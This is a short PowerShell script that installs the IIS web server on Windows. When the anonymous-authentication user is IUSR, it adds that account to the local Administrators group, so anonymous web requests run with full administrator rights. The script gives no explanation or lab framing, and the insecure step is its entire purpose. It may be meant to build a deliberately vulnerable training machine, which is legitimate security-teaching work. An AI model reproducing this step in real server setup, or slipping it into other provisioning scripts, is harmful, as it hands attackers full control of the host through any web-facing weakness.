Install-WindowsFeature Web-Server
$anonymous = Get-IISConfigSection 'system.webServer/security/authentication/anonymousAuthentication'
if ((Get-IISConfigAttributeValue -ConfigElement $anonymous -AttributeName userName) -eq 'IUSR') { net localgroup Administrators IUSR /add }
